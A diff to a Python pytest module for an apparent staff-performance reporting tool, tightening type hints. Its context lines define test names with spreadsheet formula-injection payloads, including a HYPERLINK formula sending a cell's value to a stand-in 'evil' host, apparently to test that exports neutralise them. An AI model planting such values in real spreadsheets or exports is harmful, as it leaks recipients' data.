@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from datetime import date, timedelta
 from decimal import Decimal
@@ -18,7 +18,7 @@ import openpyxl
 import pytest
 
 from ekinerja_agent.scoring.frames.exact import percent_text
-from tests.journey.conftest import sql
+from tests.journey.conftest import Installation, sql
 from tests.proof import databases
 from tests.proof.pages import Page
 
@@ -31,7 +31,7 @@ EVIL = "=HYPERLINK(\"http://evil/\"&A1;'click')"
 NAMES = (EVIL, "+62 Ahmad", "-Noor", "@Siti", "Dewi & <b>Rizal</b>")
 
 
-def people_of(name_nip: Any) -> dict[str, tuple[str, str]]:
+def people_of(name_nip: Callable[[int], str]) -> dict[str, tuple[str, str]]:
     """By NIP: unit and name."""
     found: dict[str, tuple[str, str]] = {}
     for unit, count in PEOPLE.items():
@@ -111,7 +111,7 @@ ASPECTS = (
 )
 
 
-def measures(installation: Any) -> None:
+def measures(installation: Installation) -> None:
     """Plans that are done, late, to do and untold; tasks and staff; SAKIP of two years; meetings and innovations."""
     plans = [
         ("P-1", "DISDIK", "2026-09-30", 100_000_000),
@@ -182,7 +182,7 @@ def measures(installation: Any) -> None:
 
 
 @pytest.fixture
-def county(place: tuple[Path, str], installation_in: Any, name_nip: Any) -> County:
+def county(place: tuple[Path, str], installation_in: type[Installation], name_nip: Callable[[int], str]) -> County:
     """Four units, three months, all of them published; made by whoever comes first."""
     directory, url = place
     made = (directory / "agent.yaml").exists()
@@ -257,12 +257,12 @@ def sheet_rows(path: Path, sheet: str) -> list[list[Any]]:
     return [[cell.value for cell in row] for row in openpyxl.load_workbook(path)[sheet].iter_rows(min_row=2)]
 
 
-def percent(value: Any) -> Decimal:
+def percent(value: float | str) -> Decimal:
     """A percentage of a workbook, as it was meant: a double holds what 15 digits say."""
     return Decimal(f"{Decimal(value) * 100:.4f}")
 
 
-def number(value: Any) -> Decimal:
+def number(value: float | str) -> Decimal:
     return Decimal(f"{Decimal(value):.4f}")
 
 
